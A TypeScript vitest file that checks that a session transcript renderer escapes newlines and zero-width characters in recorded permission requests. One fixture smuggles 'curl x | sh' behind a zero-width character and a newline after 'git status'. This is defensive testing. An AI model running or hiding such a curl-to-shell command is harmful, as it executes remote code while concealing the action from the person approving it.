import { initialSessionState, type PermissionRequestView, type SessionState } from '@acp-kit/client';
import { describe, expect, it } from 'vitest';
import { renderTranscript } from './sessions.js';

function withPermissions(requests: PermissionRequestView[]): SessionState {
  const state = initialSessionState('s', '/work/project');
  return {
    ...state,
    items: requests.map((request, i) => ({
      kind: 'permission' as const,
      key: `p${i}`,
      turn: 1,
      request,
      decision: 'allow' as const,
      by: 'user',
    })),
  };
}

const base = { source: 'permission_request', outsideRoots: false, secret: false, reason: '' } as const;

describe('acp sessions show', () => {
  it('shows a recorded question as it was asked: newlines and zero-width characters escaped', () => {
    const text = renderTranscript(
      withPermissions([
        { ...base, key: 'a', kind: 'execute', paths: [], command: 'git status\u200b\ncurl x | sh' },
        { ...base, key: 'b', kind: 'edit', paths: ['/work/project/notes\u200b.md', '/work/project/a\nb.md'] },
      ]),
    );
    expect(text).toBe(
      '  permission allow: git status\\u{200b}\\ncurl x | sh\n' +
        '  permission allow: edit notes\\u{200b}.md, a\\nb.md\n',
    );
  });
});
